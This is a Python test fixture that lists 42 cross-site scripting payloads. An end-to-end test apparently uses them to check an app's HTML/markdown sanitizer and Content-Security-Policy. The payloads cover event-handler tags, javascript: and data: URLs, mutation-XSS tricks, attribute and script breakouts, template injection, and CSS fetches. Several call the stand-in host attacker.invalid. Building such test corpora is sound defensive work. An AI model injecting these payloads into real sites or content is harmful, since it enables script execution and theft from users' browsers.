"""The XSS corpus: text built to run script or to make the browser call out, in the ways that have
worked against real products (HTML and SVG handlers, javascript: and data: URLs, markdown links and
images, mutation XSS that survives one parse and bites on the next, breaking out of attributes, script
blocks and templates, CSS that fetches).

A payload that runs calls `__xss(<its number>)`; one that fetches asks `http://attacker.invalid/<n>`.
tests/e2e/test_xss.py records both, so either is caught whichever defence (the sanitizer or the
Content-Security-Policy) failed.
"""

ATTACKER = "attacker.invalid"

PAYLOADS = [
    "<script>__xss(1)</script>",
    "<img src=x onerror=__xss(2)>",
    "<svg onload=__xss(3)>",
    "<svg><script>__xss(4)</script></svg>",
    '<iframe src="javascript:__xss(5)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss(6)</script>"></iframe>',
    '<a href="javascript:__xss(7)">raw link 7</a>',
    "[markdown link 8](javascript:__xss(8))",
    "[mixed case 9](JaVaScRiPt:__xss(9))",
    "[entity 10](&#106;avascript:__xss(10))",
    f"![markdown image 11](http://{ATTACKER}/11.png)",
    f'<img src="http://{ATTACKER}/12.png">',
    "<body onload=__xss(13)>",
    "<details open ontoggle=__xss(14)><summary>details 14</summary></details>",
    "<input autofocus onfocus=__xss(15)>",
    "<video><source onerror=__xss(16)></video>",
    "<audio src=x onerror=__xss(17)>",
    '<object data="javascript:__xss(18)"></object>',
    '<embed src="javascript:__xss(19)">',
    '<form action="javascript:__xss(20)"><button>form 20</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(21)>",
    '<noscript><p title="</noscript><img src=x onerror=__xss(22)>">',
    f'<base href="http://{ATTACKER}/23/">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(24)">',
    f"<link rel=stylesheet href=http://{ATTACKER}/25.css>",
    f'<style>@import "http://{ATTACKER}/26.css";</style>',
    f'<div style="background:url(http://{ATTACKER}/27.png)">background 27</div>',
    '"><img src=x onerror=__xss(28)>',
    "'-__xss(29)-'",
    "</script><script>__xss(30)</script>",
    "{{constructor.constructor('__xss(31)')()}}",
    '<a href="data:text/html,<script>__xss(32)</script>">data link 32</a>',
    "[data link 33](data:text/html;base64,PHNjcmlwdD5fX3hzcygzMyk8L3NjcmlwdD4=)",
    '<svg><a xlink:href="javascript:__xss(34)"><text y=20>svg link 34</text></a></svg>',
    "<IMG SRC=x ONERROR=__xss(35)>",
    '<a href=" &#x6A;avascript:__xss(36)">spaced link 36</a>',
    "\u202e<img src=x onerror=__xss(37)> right-to-left 37",
    "<template><img src=x onerror=__xss(38)></template>",
    '<a href="#" onclick="__xss(39)">click 39</a>',
    "<marquee onstart=__xss(40)>marquee 40</marquee>",
    "`<img src=x onerror=__xss(41)>` in code, and ``` <script>__xss(41)</script> ```",
    "<p>paragraph 42</p><!--<img src=x onerror=__xss(42)>-->",
]
